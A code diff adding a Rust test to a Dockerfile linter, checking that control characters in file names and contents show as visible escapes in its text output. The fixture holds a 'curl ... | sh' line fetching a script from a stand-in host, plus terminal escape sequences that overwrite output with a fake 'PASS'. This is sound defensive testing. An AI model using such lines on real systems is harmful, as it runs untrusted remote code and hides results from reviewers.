@@ -404,3 +404,20 @@ fn dockerfiles_and_standard_input_are_read_up_to_16_mib() {
     );
     std::fs::remove_dir_all(&dir).unwrap();
 }
+
+#[test]
+fn text_output_shows_control_characters_of_paths_and_files_visibly() {
+    let dir = std::env::temp_dir().join(format!("dockward-lint-escape-{}", std::process::id()));
+    let _ = std::fs::remove_dir_all(&dir);
+    std::fs::create_dir_all(&dir).unwrap();
+    std::fs::write(
+        dir.join("evil\u{1b}[2K\r.Dockerfile"),
+        "FROM alpine:3.20\nRUN curl https://x.example/i.sh | sh # \u{1b}[2K\rPASS\n",
+    )
+    .unwrap();
+    let out = lint_in(&dir, &[".", "--color", "never"]);
+    let text = String::from_utf8(out.stdout).unwrap();
+    assert!(!text.chars().any(|c| c.is_control() && c != '\n'), "{text:?}");
+    assert!(text.contains("./evil\\x1b[2K\\r.Dockerfile:2:"), "{text}");
+    std::fs::remove_dir_all(&dir).unwrap();
+}
